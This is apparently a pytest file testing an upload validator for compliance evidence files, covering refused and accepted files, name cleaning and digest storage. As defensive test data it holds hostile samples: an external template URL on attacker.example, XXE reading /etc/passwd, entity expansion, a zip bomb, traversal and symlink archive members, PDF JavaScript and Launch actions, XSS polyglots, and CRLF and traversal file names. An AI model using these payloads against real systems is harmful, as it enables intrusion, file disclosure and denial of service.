"""Is a file what its name says? Each hostile one is refused, each honest one is kept."""

import os
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from uuid import uuid4

import pytest
from flask import Flask
from sqlalchemy import Engine

from compliance.database import firm_session
from compliance.evidence import (
    LARGEST,
    EvidenceItem,
    RefusedFileError,
    Store,
    Why,
    check_file,
    clean_name,
)
from tests.support import cast

PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
XML = b'<?xml version="1.0"?>'
PACKAGE = b"http://schemas.openxmlformats.org/package/2006/"
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/"
TYPES = XML + b'<Types xmlns="' + PACKAGE + b'content-types"/>'
RELS = XML + b'<Relationships xmlns="' + PACKAGE + b'relationships"/>'
EXTERNAL = (
    XML
    + b'<Relationships xmlns="'
    + PACKAGE
    + b'relationships"><Relationship Id="r1" Type="'
    + OFFICE
    + b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
    + b'TargetMode="External"/></Relationships>'
)
XXE = XML + b'<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types>&x;</Types>'
LAUGHS = XML + b'<!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\0" * 72 + b"\xff\xd9"


def png(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 14)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
        + tail
    )


def office(
    main: str = "word/document.xml", more: dict[str, bytes] | None = None, types: bytes = TYPES
) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr(main, b"<?xml version='1.0'?><document/>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def link_member() -> bytes:
    stream = BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def encrypted() -> bytes:
    content = bytearray(office())
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(signature)
        content[place + offset] |= 1
    return bytes(content)


def many_members() -> bytes:
    return office(more={f"word/part{i}.xml": b"" for i in range(1001)})


def lengthened(content: bytes) -> bytes:
    return content + b"0" * (LARGEST + 1 - len(content))


HOSTILE: dict[str, tuple[str, Callable[[], bytes], Why]] = {
    "empty": ("a.pdf", lambda: b"", Why.EMPTY),
    "one byte too many": ("a.txt", lambda: lengthened(b"x"), Why.TOO_LARGE),
    "html named pdf": ("a.pdf", lambda: b"<html><script>alert(1)</script></html>", Why.CONTENT),
    "html named png": ("a.png", lambda: b"<html></html>", Why.CONTENT),
    "svg": ("a.svg", lambda: b"<svg onload='alert(1)'/>", Why.KIND),
    "svg named png": ("a.png", lambda: b"<svg onload='alert(1)'/>", Why.CONTENT),
    "html": ("a.html", lambda: b"<html></html>", Why.KIND),
    "no ending": ("README", lambda: b"text", Why.KIND),
    "program": ("a.exe", lambda: b"MZ\x90\x00", Why.KIND),
    "program named pdf": ("a.pdf", lambda: b"MZ\x90\x00" + b"\0" * 60, Why.CONTENT),
    "program named csv": ("a.csv", lambda: b"MZ\x90\x00" + b"\0" * 60, Why.CONTENT),
    "two endings": ("a.pdf.exe", lambda: PDF, Why.KIND),
    "gif with script": ("a.png", lambda: b"GIF89a/*<script>*/=1;alert(1)", Why.CONTENT),
    "pdf without end": ("a.pdf", lambda: PDF[:40], Why.CONTENT),
    "pdf after rubbish": ("a.pdf", lambda: b"MZ" + PDF, Why.CONTENT),
    "pdf and zip at once": ("a.pdf", lambda: b"%PDF-1.4\n" + office() + b"%%EOF", Why.CONTENT),
    "pdf with javascript": (
        "a.pdf",
        lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        Why.ACTIVE,
    ),
    "pdf that launches": (
        "a.pdf",
        lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"),
        Why.ACTIVE,
    ),
    "png that unpacks to 2.5 billion points": ("a.png", lambda: png(50_000, 50_000), Why.CONTENT),
    "png without size": ("a.png", lambda: png(0, 0), Why.CONTENT),
    "png with something behind it": ("a.png", lambda: png(tail=b"<script>"), Why.CONTENT),
    "cut jpeg": ("a.jpg", lambda: JPEG[:-2], Why.CONTENT),
    "png named jpeg": ("a.jpg", png, Why.CONTENT),
    "text named docx": ("a.docx", lambda: b"hello", Why.CONTENT),
    "cut docx": ("a.docx", lambda: office()[:-30], Why.CONTENT),
    "xlsx named docx": ("a.docx", lambda: office("xl/workbook.xml"), Why.CONTENT),
    "docx named xlsx": ("a.xlsx", office, Why.CONTENT),
    "zip named docx": ("a.docx", lambda: office("hello.txt"), Why.CONTENT),
    "docx with macros": ("a.docx", lambda: office(more={"word/vbaProject.bin": b"x"}), Why.ACTIVE),
    "xlsm named xlsx": (
        "a.xlsx",
        lambda: office("xl/workbook.xml", {"xl/vbaProject.bin": b"x"}),
        Why.ACTIVE,
    ),
    "docx with a program": ("a.docx", lambda: office(more={"word/a.exe": b"MZ"}), Why.ACTIVE),
    "docx with a template from outside": (
        "a.docx",
        lambda: office(more={"word/_rels/settings.xml.rels": EXTERNAL}),
        Why.ACTIVE,
    ),
    "docx with outside entity": ("a.docx", lambda: office(types=XXE), Why.CONTENT),
    "docx with laughing entities": ("a.docx", lambda: office(types=LAUGHS), Why.CONTENT),
    "zip bomb": (
        "a.xlsx",
        lambda: office("xl/workbook.xml", {"xl/s.xml": b"0" * 60_000_000}),
        Why.ARCHIVE,
    ),
    "many members": ("a.docx", many_members, Why.ARCHIVE),
    "member that climbs": ("a.docx", lambda: office(more={"../../x": b"x"}), Why.ARCHIVE),
    "member from the root": ("a.docx", lambda: office(more={"/etc/x": b"x"}), Why.ARCHIVE),
    "member that is a link": ("a.docx", link_member, Why.ARCHIVE),
    "encrypted member": ("a.docx", encrypted, Why.ARCHIVE),
    "archive in the archive": ("a.docx", lambda: office(more={"word/a.zip": b"PK"}), Why.ARCHIVE),
    "csv with nul": ("a.csv", lambda: b"a,b\n1,\x00\n", Why.CONTENT),
    "text with escapes": ("a.txt", lambda: b"\x1b[31mred", Why.CONTENT),
    "mixed encodings": ("a.csv", lambda: "中文".encode() + b"\xff\xff\x80", Why.CONTENT),
}
HONEST = {
    "pdf": ("a.pdf", PDF, "application/pdf"),
    "png": ("a.PNG", png(), "image/png"),
    "jpeg": ("a.jpeg", JPEG, "image/jpeg"),
    "docx": ("a.docx", office(), "wordprocessingml"),
    "xlsx": ("a.xlsx", office("xl/workbook.xml"), "spreadsheetml"),
    "csv": ("清单.csv", "型号,数量\r\nHY-5X,2\r\n".encode(), "text/csv"),
    "csv in gb18030": ("a.csv", "型号,数量".encode("gb18030"), "text/csv"),
    "text in utf-16": ("a.txt", "型号".encode("utf-16"), "text/plain"),
    "text that looks like a page": ("a.txt", b"<script>alert(1)</script>", "text/plain"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused(case: str) -> None:
    name, content, why = HOSTILE[case]

    with pytest.raises(RefusedFileError) as refused:
        check_file(name, content())

    assert refused.value.why is why


def test_the_set_is_large_enough() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_file_is_taken(case: str) -> None:
    name, content, media_type = HONEST[case]

    checked = check_file(name, content)

    assert media_type in checked.media_type
    assert checked.content == content


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\boot.txt", "boot.txt"),
        ("a\0.pdf", "a.pdf"),
        ("evil\u202egpj.txt", "evilgpj.txt"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie: x.txt"),
        ('"; filename=x.txt', '"; filename=x.txt'),
        ("  .txt. ", "txt"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
    ],
)
def test_a_name_is_only_a_name(name: str, clean: str) -> None:
    assert clean_name(name) == clean


def test_files_are_kept_by_digest_inside_the_firm_s_folder(tmp_path: Path) -> None:
    store = Store.of_firm(tmp_path, uuid4())

    digest = store.keep(PDF)

    assert store.keep(PDF) == digest
    assert store.read(digest) == PDF
    assert [file.name for file in tmp_path.rglob("*") if file.is_file()] == [digest]


def test_a_file_that_was_altered_on_disk_is_not_handed_out(tmp_path: Path) -> None:
    from compliance.evidence import NoSuchEvidenceError

    store = Store.of_firm(tmp_path, uuid4())
    digest = store.keep(PDF)
    store.path(digest).write_bytes(b"other")

    with pytest.raises(NoSuchEvidenceError):
        store.read(digest)


def test_a_file_that_an_upload_left_without_its_row_is_swept_later(
    app: Flask, engine: Engine
) -> None:
    firm = cast.firm_id("amber")
    store = Store.of_firm(app.extensions["settings"].data_dir, firm)
    old, fresh, wanted = store.keep(PDF), store.keep(b"fresh"), store.keep(b"wanted")
    hours_ago = time.time() - 7200
    for digest in (old, wanted):
        os.utime(store.path(digest), (hours_ago, hours_ago))
    with firm_session(engine, firm) as session:
        item = EvidenceItem(
            title="x", sha256=wanted, created_at=cast.NOW, created_by_name="Amber exporter"
        )
        session.add(item)

    with app.app_context():
        done = app.test_cli_runner().invoke(args=["evidence", "sweep"])

    assert done.output == "evidence: 1 files without a row deleted\n"
    assert not store.path(old).exists()
    assert store.path(fresh).exists()
    assert store.path(wanted).exists()
